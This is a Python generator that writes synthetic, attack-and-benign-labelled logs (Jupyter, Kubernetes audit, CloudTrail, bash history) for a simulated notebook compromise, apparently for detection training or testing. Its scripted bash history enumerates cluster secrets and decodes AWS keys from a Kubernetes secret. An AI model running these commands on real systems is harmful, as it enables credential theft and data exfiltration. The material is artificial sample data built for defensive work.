"""Scenario d: notebook compromise - Jupyter token brute force -> terminal -> secret enumeration in
Kubernetes -> S3 exfiltration.

Writes samples/scenarios/d-notebook-compromise/{jupyter/jupyter-server.log,
jupyter/terminal-bash_history.txt,kubernetes/audit.log,cloudtrail/events.ndjson}.
Run: python3 samples/scenarios/tools/gen_d.py
"""

import datetime as dt
import os
import sys

sys.dont_write_bytecode = True
sys.path.insert(0, os.path.dirname(__file__))
from common import Timeline, cloudtrail, hexid, jupyter, k8s_audit, rnd, t, uuid4, write  # noqa: E402

ROOT = os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "d-notebook-compromise")
DAY = 26
R = rnd(20261126_4)
TL = Timeline()
ms = dt.timedelta(milliseconds=1)
sec = dt.timedelta(seconds=1)

JUP = "jupyter/jupyter-server.log"
AUDIT = "kubernetes/audit.log"
CT = "cloudtrail/events.ndjson"
A, B = "attack", "benign"
ATTACKER = "203.0.113.77"
ALICE_VPN = "10.30.2.41"
POD_IP = "10.244.1.23"
POD = "alice-lab-7d9f8c6b5-x2k4p"
NS = "kubeflow-alice"


def jup(ts, level, msg, label, app="ServerApp"):
    TL.add(JUP, ts, jupyter(ts, level, msg, app), label)


def access(ts, level, status, method, uri, user, ip, ms_, label, referer=None):
    msg = f"{status} {method} {uri} ({user}@{ip}) {ms_:.2f}ms"
    if status >= 400:
        msg += f" referer={referer or 'None'}"
    jup(ts, level, msg, label)


# ====================================================================== Jupyter: alice's normal day
KID = str(uuid4(R))
alice_user = hexid(R)
tt = t(DAY, "08:45:12", 330)
jup(tt, "I", f"User {alice_user} logged in.", B)
access(tt + 1 * ms, "I", 302, "POST", "/login?next=%2Flab", alice_user, ALICE_VPN, 3.88, B)
tt = t(DAY, "08:45:31", 904)
jup(tt, "I", f"Kernel started: {KID}", B)
TL.add(JUP, tt + 700 * ms, "[IPKernelApp] WARNING | Kernel is running over TCP without encryption. All communication "
       "(including code and outputs) is sent in plain text and is susceptible to eavesdropping. Use IPC transport or "
       "launch with kernel manager-provisioned CurveZMQ keys to enable transport encryption.", B)
sess = hexid(R, 8) + "-" + hexid(R, 24)
jup(tt + 1450 * ms, "I", f"Adapting from protocol version 5.3 (kernel {KID}) to 5.4 (client).", B)
jup(tt + 1452 * ms, "I", f"Connecting to kernel {KID}.", B)
# JupyterLab autosaves the open notebook every 2 minutes while it changes
tt = t(DAY, "08:47:33", 101)
while tt < t(DAY, "09:23:00"):
    jup(tt, "I", "Saving file at /work/fraud/eda-2026-11.ipynb", B)
    tt += dt.timedelta(seconds=120, milliseconds=R.randint(-40, 40))
jup(t(DAY, "09:05:48", 17), "I", "Uploading file to /work/fraud/feature_notes.md", B)
# alice opens a file that was moved: a 404 from an internal address
access(t(DAY, "09:12:02", 610), "W", 404, "GET", "/api/contents/work/data/transactions_2026-10.parquet?content=0&hash=0",
       alice_user, ALICE_VPN, 1.41, B, referer=None)
jup(t(DAY, "09:12:02", 611), "W",
    f"404 GET /api/contents/work/data/transactions_2026-10.parquet?content=0&hash=0 ({ALICE_VPN}): "
    "No such file or directory: work/data/transactions_2026-10.parquet", B)
# her laptop goes to sleep: the kernel websocket closes
jup(t(DAY, "09:24:40", 207), "I", f"Starting buffering for {KID}:{sess}", B)
# back at 10:07
tt = t(DAY, "10:07:13", 455)
jup(tt, "I", f"Adapting from protocol version 5.3 (kernel {KID}) to 5.4 (client).", B)
jup(tt + 2 * ms, "I", f"Connecting to kernel {KID}.", B)
jup(tt + 5 * ms, "I", f"Replaying 3 buffered messages", B)
tt = t(DAY, "10:09:02", 340)
while tt < t(DAY, "10:55:00"):
    jup(tt, "I", "Saving file at /work/fraud/eda-2026-11.ipynb", B)
    tt += dt.timedelta(seconds=120, milliseconds=R.randint(-40, 40))
jup(t(DAY, "10:31:50", 6), "I", "Saving file at /work/fraud/train_lgbm.py", B)

# ====================================================================== Jupyter: the attack
# 1. token guessing on the login form (a wordlist built from the owner's name and the year)
tt = t(DAY, "09:30:05", 118)
FAILS = 23
for i in range(FAILS):
    access(tt, "W", 401, "POST", "/login?next=%2Flab", "", ATTACKER, R.uniform(1.1, 9.8), A)
    tt += dt.timedelta(milliseconds=R.randint(2400, 3600))
att_user = hexid(R)
jup(tt, "I", f"User {att_user} logged in.", A)
access(tt + 1 * ms, "I", 302, "POST", "/login?next=%2Flab", att_user, ATTACKER, 4.40, A)
LOGIN = tt
# 2. browsing the home directory for credentials (present files are 200 and only logged at DEBUG)
for when, path in (("09:31:42", ".aws/credentials"), ("09:31:49", ".netrc")):
    tt = t(DAY, when, R.randint(0, 999))
    access(tt, "W", 404, "GET", f"/api/contents/{path}?content=1&hash=0", att_user, ATTACKER, R.uniform(1.0, 2.0), A)
    jup(tt + 1 * ms, "W", f"404 GET /api/contents/{path}?content=1&hash=0 ({ATTACKER}): No such file or directory: {path}", A)
# 3. a terminal (the POST /api/terminals and the websocket are 2xx/101: DEBUG only)
TERM = t(DAY, "09:32:10", 377)
jup(TERM, "I", "New terminal with automatic name: 1", A, app="ServerApp")
TERM_END = t(DAY, "09:58:12", 804)
jup(TERM_END, "I", "EOF on FD 34; stopping reading", A)
jup(TERM_END + 101 * ms, "I", "Terminal 1 closed", A)

# bash history of the terminal's shell (written when it exits; alice's older sessions on top)
HISTORY_BENIGN = [
    "nvidia-smi",
    "pip install --user lightgbm==4.5.0 shap==0.46.0",
    "git -C ~/work/fraud-models pull",
    "du -sh ~/work/data",
    "ls -la ~/work/data/",
    "python -m pytest -q ~/work/fraud-models/tests",
]
HISTORY_ATTACK = [
    "id",
    "hostname",
    "cat /var/run/secrets/kubernetes.io/serviceaccount/namespace",
    "env | grep -iE 'aws|s3|mlflow|token|key'",
    "curl -sLO https://dl.k8s.io/release/v1.31.2/bin/linux/amd64/kubectl",
    "chmod +x kubectl",
    "./kubectl auth can-i --list",
    "./kubectl get secrets",
    "./kubectl get secrets -A",
    "./kubectl get secrets -n kubeflow",
    "./kubectl get secrets -n models",
    "./kubectl get secrets -n ml-platform",
    "./kubectl get secret ml-s3-credentials -o jsonpath='{.data.AWS_ACCESS_KEY_ID}' | base64 -d; echo",
    "./kubectl get secret ml-s3-credentials -o jsonpath='{.data.AWS_SECRET_ACCESS_KEY}' | base64 -d; echo",
    "rm -f kubectl",
    "exit",
]

# ====================================================================== Kubernetes audit
KUBECTL = "kubectl/v1.31.2 (linux/amd64) kubernetes/5864a46"
SA = f"system:serviceaccount:{NS}:default-editor"
SA_GROUPS = ["system:serviceaccounts", f"system:serviceaccounts:{NS}", "system:authenticated"]
SA_UID = "8e2f4b61-3c9d-4a7e-b0f5-1d6c8a2e9b43"
SA_EXTRA = {"authentication.kubernetes.io/credential-id": ["JTI=b7c1e5a9-2d4f-4861-9e3a-7f0b2c6d8e14"],
            "authentication.kubernetes.io/node-name": ["gpu-node-3"],
            "authentication.kubernetes.io/node-uid": ["f3b2c1d0-5e4a-4b39-8c27-1a0f9e8d7c6b"],
            "authentication.kubernetes.io/pod-name": [POD],
            "authentication.kubernetes.io/pod-uid": ["c41d7e2a-9b3f-4a68-8d15-2e7f0a9c6b38"]}
SA_REASON = (f'RBAC: allowed by RoleBinding "default-editor/{NS}" of ClusterRole "kubeflow-edit" '
             f'to ServiceAccount "default-editor/{NS}"')


def audit(ts, label, *a, **k):
    TL.add(AUDIT, ts, k8s_audit(R, ts, *a, **k), label)


def sa_call(ts, verb, uri, obj_ref, code, label=A):
    fail = None
    if code == 403:
        ns = obj_ref.get("namespace")
        where = f' in the namespace "{ns}"' if ns else " at the cluster scope"
        fail = (f'secrets is forbidden: User "{SA}" cannot {verb} resource "secrets" in API group ""{where}')
    audit(ts, label, verb, uri, SA, SA_GROUPS, POD_IP, KUBECTL, obj_ref, code, uid=SA_UID, extra=SA_EXTRA,
          reason=None if code == 403 else SA_REASON, failure_message=fail)


# benign: alice checks her workload, the pipelines read their artifact-store secret, external-secrets syncs
alice_groups = ["ml-researchers", "system:authenticated"]
alice_reason = f'RBAC: allowed by RoleBinding "namespaceAdmin/{NS}" of ClusterRole "kubeflow-admin" to User "alice@example.com"'
audit(t(DAY, "08:44:02", 114), B, "list", f"/api/v1/namespaces/{NS}/pods?limit=500", "alice@example.com", alice_groups,
      ALICE_VPN, KUBECTL, {"resource": "pods", "namespace": NS, "apiVersion": "v1"}, 200, reason=alice_reason)
audit(t(DAY, "08:44:09", 560), B, "get", f"/api/v1/namespaces/{NS}/pods/{POD}/log?container=notebook&tailLines=40",
      "alice@example.com", alice_groups, ALICE_VPN, KUBECTL,
      {"resource": "pods", "namespace": NS, "name": POD, "apiVersion": "v1", "subresource": "log"}, 200,
      reason=alice_reason)
audit(t(DAY, "10:12:40", 300), B, "get", f"/apis/apps/v1/namespaces/{NS}/deployments/alice-lab", "alice@example.com",
      alice_groups, ALICE_VPN, KUBECTL, {"resource": "deployments", "namespace": NS, "name": "alice-lab",
                                         "apiGroup": "apps", "apiVersion": "v1"}, 200, reason=alice_reason)
KFP_SA = "system:serviceaccount:kubeflow:pipeline-runner"
KFP_GROUPS = ["system:serviceaccounts", "system:serviceaccounts:kubeflow", "system:authenticated"]
for hhmm in ("09:10:14", "09:40:12", "10:10:16", "10:40:13"):
    audit(t(DAY, hhmm, R.randint(0, 999)), B, "get", "/api/v1/namespaces/kubeflow/secrets/mlpipeline-minio-artifact",
          KFP_SA, KFP_GROUPS, "10.244.2.71", "argoexec/v3.4.17 (linux/amd64) kubernetes/$Format",
          {"resource": "secrets", "namespace": "kubeflow", "name": "mlpipeline-minio-artifact", "apiVersion": "v1"}, 200,
          reason='RBAC: allowed by RoleBinding "pipeline-runner-binding/kubeflow" of Role "pipeline-runner" '
                 'to ServiceAccount "pipeline-runner/kubeflow"')
ESO = "system:serviceaccount:external-secrets:external-secrets"
for hhmm in ("09:00:00", "10:00:00"):
    audit(t(DAY, hhmm, R.randint(100, 900)), B, "update", f"/api/v1/namespaces/{NS}/secrets/ml-s3-credentials",
          ESO, ["system:serviceaccounts", "system:serviceaccounts:external-secrets", "system:authenticated"],
          "10.244.0.36", "external-secrets/v0.10.5 (linux/amd64) kubernetes/$Format",
          {"resource": "secrets", "namespace": NS, "name": "ml-s3-credentials", "apiVersion": "v1"}, 200,
          reason='RBAC: allowed by ClusterRoleBinding "external-secrets-controller" of ClusterRole '
                 '"external-secrets-controller" to ServiceAccount "external-secrets/external-secrets"')
# the notebook controller reconciles the workspace every 10 minutes
tt = t(DAY, "08:40:05", 0)
while tt < t(DAY, "11:00:00"):
    audit(tt, B, "get", f"/apis/apps/v1/namespaces/{NS}/deployments/alice-lab",
          "system:serviceaccount:kubeflow:notebook-controller-service-account",
          ["system:serviceaccounts", "system:serviceaccounts:kubeflow", "system:authenticated"], "10.244.0.18",
          "manager/v0.0.0 (linux/amd64) kubernetes/$Format",
          {"resource": "deployments", "namespace": NS, "name": "alice-lab", "apiGroup": "apps", "apiVersion": "v1"}, 200,
          reason='RBAC: allowed by ClusterRoleBinding "notebook-controller-role-binding" of ClusterRole '
                 '"notebook-controller-role" to ServiceAccount "notebook-controller-service-account/kubeflow"')
    tt += dt.timedelta(minutes=5, milliseconds=R.randint(-500, 500))

# attack: what can this token do, then secrets everywhere it can reach
sa_call(t(DAY, "09:36:02", 415), "create", "/apis/authorization.k8s.io/v1/selfsubjectrulesreviews",
        {"resource": "selfsubjectrulesreviews", "apiGroup": "authorization.k8s.io", "apiVersion": "v1"}, 201)
sa_call(t(DAY, "09:36:40", 61), "list", f"/api/v1/namespaces/{NS}/secrets?limit=500",
        {"resource": "secrets", "namespace": NS, "apiVersion": "v1"}, 200)
sa_call(t(DAY, "09:36:58", 230), "list", "/api/v1/secrets?limit=500", {"resource": "secrets", "apiVersion": "v1"}, 403)
sa_call(t(DAY, "09:37:20", 12), "list", "/api/v1/namespaces/kubeflow/secrets?limit=500",
        {"resource": "secrets", "namespace": "kubeflow", "apiVersion": "v1"}, 403)
sa_call(t(DAY, "09:37:31", 508), "list", "/api/v1/namespaces/models/secrets?limit=500",
        {"resource": "secrets", "namespace": "models", "apiVersion": "v1"}, 403)
sa_call(t(DAY, "09:37:45", 90), "list", "/api/v1/namespaces/ml-platform/secrets?limit=500",
        {"resource": "secrets", "namespace": "ml-platform", "apiVersion": "v1"}, 403)
for when in ("09:38:30", "09:38:41"):
    sa_call(t(DAY, when, R.randint(0, 999)), "get", f"/api/v1/namespaces/{NS}/secrets/ml-s3-credentials",
            {"resource": "secrets", "namespace": NS, "name": "ml-s3-credentials", "apiVersion": "v1"}, 200)

# response: the SRE removes the public Service of the notebook and scales it down
SRE = "10.20.0.5"
sre_groups = ["sre", "system:authenticated"]
sre_reason = 'RBAC: allowed by ClusterRoleBinding "sre-cluster-admin" of ClusterRole "cluster-admin" to Group "sre"'
audit(t(DAY, "10:46:05", 221), B, "delete", f"/api/v1/namespaces/{NS}/services/alice-lab-public", "sre-oncall@example.com",
      sre_groups, SRE, KUBECTL, {"resource": "services", "namespace": NS, "name": "alice-lab-public", "apiVersion": "v1"},
      200, reason=sre_reason)
audit(t(DAY, "10:46:31", 640), B, "patch", f"/apis/apps/v1/namespaces/{NS}/deployments/alice-lab/scale",
      "sre-oncall@example.com", sre_groups, SRE, KUBECTL,
      {"resource": "deployments", "namespace": NS, "name": "alice-lab", "apiGroup": "apps", "apiVersion": "v1",
       "subresource": "scale"}, 200, reason=sre_reason)

# ====================================================================== CloudTrail
REGION = "us-east-1"
SVC_KEY = "AKIAIOSFODNN7SVCMLS3"
SVC = {"type": "IAMUser", "principalId": "AIDAEXAMPLESVCMLS3XX", "arn": "arn:aws:iam::123456789012:user/svc-ml-s3",
       "accountId": "123456789012", "accessKeyId": SVC_KEY, "userName": "svc-ml-s3"}
KALI_UA = ("aws-cli/2.17.44 md/awscrt#0.21.2 ua/2.0 os/linux#6.8.0-45-generic md/arch#x86_64 lang/python#3.12.6 "
           "md/pyimpl#CPython cfg/retry-mode#standard md/installer#exe md/distrib#kali.2024 command/{cmd}")
KFP_UA = ("Boto3/1.35.60 md/Botocore#1.35.60 ua/2.0 os/linux#6.1.112-124.190.amzn2023.x86_64 md/arch#x86_64 "
          "lang/python#3.11.10 md/pyimpl#CPython cfg/retry-mode#legacy Botocore/1.35.60")
SM_UA = ("[aws-sdk-java/1.12.770 Linux/5.10.227-219.884.amzn2.x86_64 OpenJDK_64-Bit_Server_VM/17.0.13+11-LTS "
         "java/17.0.13 vendor/Amazon.com_Inc. cfg/retry-mode/standard]")
VPCE = "vpce-0a1b2c3d4e5f67890"
CHUNK = 8 * 1024 * 1024
SHARD = 40 * 1024 * 1024


def role(name, session, key, created):
    return {"type": "AssumedRole", "principalId": f"AROAEXAMPLE{name.upper().replace('-', '')[:9]}:{session}",
            "arn": f"arn:aws:sts::123456789012:assumed-role/{name}/{session}", "accountId": "123456789012",
            "accessKeyId": key,
            "sessionContext": {"sessionIssuer": {"type": "Role", "principalId": f"AROAEXAMPLE{name.upper().replace('-', '')[:9]}",
                                                 "arn": f"arn:aws:iam::123456789012:role/{name}",
                                                 "accountId": "123456789012", "userName": name},
                               "attributes": {"creationDate": created, "mfaAuthenticated": "false"}}}


def s3_event(ts, label, ident, name, bucket, key, ip, ua, out=0, inn=0, vpce=None, read_only=True):
    extra = {"SignatureVersion": "SigV4", "CipherSuite": "TLS_AES_128_GCM_SHA256", "bytesTransferredIn": inn,
             "AuthenticationMethod": "AuthHeader",
             "x-amz-id-2": hexid(R, 56), "bytesTransferredOut": out}
    req = {"bucketName": bucket, "Host": f"{bucket}.s3.{REGION}.amazonaws.com", "key": key}
    res = [{"type": "AWS::S3::Object", "ARN": f"arn:aws:s3:::{bucket}/{key}"},
           {"accountId": "123456789012", "type": "AWS::S3::Bucket", "ARN": f"arn:aws:s3:::{bucket}"}]
    resp = {"x-amz-server-side-encryption": "AES256"} if name == "PutObject" else None
    TL.add(CT, ts, cloudtrail(R, ts, ident, "s3.amazonaws.com", name, REGION, ip, ua, req, resp, extra, res,
                              read_only=read_only, data_event=True, vpce=vpce,
                              host=f"{bucket}.s3.{REGION}.amazonaws.com"), label)


def ranged_download(start, label, ident, bucket, key, size, ip, ua, vpce=None, concurrency=10):
    """aws-cli / boto3 transfer manager: 8 MiB ranged GETs on `concurrency` threads."""
    n = (size + CHUNK - 1) // CHUNK
    for i in range(n):
        part = min(CHUNK, size - i * CHUNK)
        s3_event(start + (i // concurrency) * 900 * ms, label, ident, "GetObject", bucket, key, ip, ua, out=part, vpce=vpce)
    return start + ((n - 1) // concurrency + 1) * 900 * ms


# benign: the fraud pipeline (KFP step, svc-ml-s3 through the S3 gateway endpoint) reads this week's shards
KFP_POD = "10.244.2.88"
tt = t(DAY, "09:10:31")
for i in range(3):
    tt = ranged_download(tt, B, SVC, "ml-datasets", f"fraud/train/part-{i:05d}.parquet", SHARD, KFP_POD, KFP_UA, VPCE) + sec
# benign: the SageMaker training job reads the image-qc shards (bulk reader role)
SM = role("sagemaker-training-exec", "SageMaker", "ASIAI44QH8DHBEXAMPLE", "2026-11-26T09:18:40Z")
tt = t(DAY, "09:20:02")
i = 0
while tt < t(DAY, "10:55:00"):
    i += 1
    key = f"image-qc/train/shard-{i % 300:06d}.tar"
    s3_event(tt, B, SM, "GetObject", "ml-datasets", key, "10.0.12.84", SM_UA, out=33_554_432 - R.randint(0, 2_000_000),
             vpce=VPCE)
    tt += dt.timedelta(milliseconds=R.randint(8000, 15000))
# benign: CI publishes the next fraud model and reads it back for its smoke test
CI = role("ml-ci-deployer", "gha-run-5127", "ASIAIOSFODNN7EXAMPLE", "2026-11-26T10:15:51Z")
GHA_UA = ("Boto3/1.35.60 md/Botocore#1.35.60 ua/2.0 os/linux#6.8.0-1017-azure md/arch#x86_64 lang/python#3.11.10 "
          "md/pyimpl#CPython exec-env/GitHubActions cfg/retry-mode#legacy Botocore/1.35.60")
s3_event(t(DAY, "10:20:04"), B, CI, "PutObject", "ml-models", "fraud/v5/model.pkl", "192.0.2.44", GHA_UA, inn=48_990_112,
         read_only=False)
ranged_download(t(DAY, "10:21:30"), B, CI, "ml-models", "fraud/v5/model.pkl", 48_990_112, "192.0.2.44", GHA_UA)

# attack: the key from the secret, used from the attacker's machine
tt = t(DAY, "09:47:03")
TL.add(CT, tt, cloudtrail(R, tt, SVC, "sts.amazonaws.com", "GetCallerIdentity", REGION, ATTACKER,
                          KALI_UA.format(cmd="sts.get-caller-identity"), None, None, None, None, read_only=True,
                          host=f"sts.{REGION}.amazonaws.com", event_version="1.08"), A)
tt = t(DAY, "09:47:20")
TL.add(CT, tt, cloudtrail(R, tt, SVC, "s3.amazonaws.com", "ListBuckets", REGION, ATTACKER, KALI_UA.format(cmd="s3.ls"),
                          {"Host": f"s3.{REGION}.amazonaws.com"}, None,
                          {"SignatureVersion": "SigV4", "CipherSuite": "TLS_AES_128_GCM_SHA256", "bytesTransferredIn": 0,
                           "AuthenticationMethod": "AuthHeader", "x-amz-id-2": hexid(R, 56), "bytesTransferredOut": 1432},
                          None, read_only=True, host=f"s3.{REGION}.amazonaws.com", event_version="1.09"), A)
tt = t(DAY, "09:47:41")
TL.add(CT, tt, cloudtrail(R, tt, SVC, "s3.amazonaws.com", "ListObjects", REGION, ATTACKER, KALI_UA.format(cmd="s3.sync"),
                          {"list-type": "2", "bucketName": "ml-datasets", "encoding-type": "url", "prefix": "fraud/",
                           "Host": "ml-datasets.s3.us-east-1.amazonaws.com"}, None,
                          {"SignatureVersion": "SigV4", "CipherSuite": "TLS_AES_128_GCM_SHA256", "bytesTransferredIn": 0,
                           "AuthenticationMethod": "AuthHeader", "x-amz-id-2": hexid(R, 56), "bytesTransferredOut": 9811},
                          [{"accountId": "123456789012", "type": "AWS::S3::Bucket", "ARN": "arn:aws:s3:::ml-datasets"}],
                          read_only=True, data_event=True, host="ml-datasets.s3.us-east-1.amazonaws.com"), A)
# aws s3 sync s3://ml-datasets/fraud/ ./fraud/ : 30 shards (40 MiB, five ranged GETs each), labels, schema
tt = t(DAY, "09:48:02")
sync_ua = KALI_UA.format(cmd="s3.sync")
s3_event(tt, A, SVC, "GetObject", "ml-datasets", "fraud/labels.csv", ATTACKER, sync_ua, out=3_145_728)
s3_event(tt, A, SVC, "GetObject", "ml-datasets", "fraud/schema.json", ATTACKER, sync_ua, out=2_211)
for i in range(30):
    tt = ranged_download(tt, A, SVC, "ml-datasets", f"fraud/train/part-{i:05d}.parquet", SHARD, ATTACKER, sync_ua,
                         concurrency=5) + dt.timedelta(milliseconds=R.randint(1500, 5000))
SYNC_END = tt
# aws s3 cp of the production fraud model
tt = t(DAY, "09:55:12")
ranged_download(tt, A, SVC, "ml-models", "fraud/v4/model.pkl", 48_318_517, ATTACKER, KALI_UA.format(cmd="s3.cp"))
tt = t(DAY, "09:56:40")
TL.add(CT, tt, cloudtrail(R, tt, SVC, "iam.amazonaws.com", "ListAttachedUserPolicies", REGION, ATTACKER,
                          KALI_UA.format(cmd="iam.list-attached-user-policies"), {"userName": "svc-ml-s3"}, None, None,
                          None, read_only=True, host="iam.amazonaws.com", event_version="1.10",
                          error=("AccessDenied", "User: arn:aws:iam::123456789012:user/svc-ml-s3 is not authorized to "
                                 "perform: iam:ListAttachedUserPolicies on resource: user svc-ml-s3 because no "
                                 "identity-based policy allows the iam:ListAttachedUserPolicies action")), A)

# response: the key is deactivated, then deleted, by the incident-response role
IR = role("SecurityIncidentResponse", "soc-jdoe", "ASIAEXAMPLESOCJDOE01", "2026-11-26T10:33:02Z")
IR_UA = ("aws-cli/2.22.4 md/awscrt#0.23.4 ua/2.0 os/linux#6.1.112-124.190.amzn2023.x86_64 md/arch#x86_64 "
         "lang/python#3.12.6 md/pyimpl#CPython cfg/retry-mode#standard md/installer#exe md/distrib#amzn.2023 command/iam.{}")
for when, name, req in (("10:34:10", "UpdateAccessKey", {"userName": "svc-ml-s3", "accessKeyId": SVC_KEY, "status": "Inactive"}),
                        ("10:41:55", "DeleteAccessKey", {"userName": "svc-ml-s3", "accessKeyId": SVC_KEY})):
    tt = t(DAY, when)
    cmd = "update-access-key" if name == "UpdateAccessKey" else "delete-access-key"
    TL.add(CT, tt, cloudtrail(R, tt, IR, "iam.amazonaws.com", name, REGION, "192.0.2.10", IR_UA.format(cmd), req, None, None,
                              None, read_only=False, host="iam.amazonaws.com", event_version="1.10"), B)

if __name__ == "__main__":
    stats = TL.render(ROOT)
    write(f"{ROOT}/jupyter/terminal-bash_history.txt", HISTORY_BENIGN + HISTORY_ATTACK)
    stats["jupyter/terminal-bash_history.txt"] = (len(HISTORY_ATTACK), len(HISTORY_BENIGN))
    for f, (a, b) in sorted(stats.items()):
        print(f"{f}: {a} attack, {b} benign lines")
    print("login", LOGIN.isoformat(), "sync end", SYNC_END.isoformat())
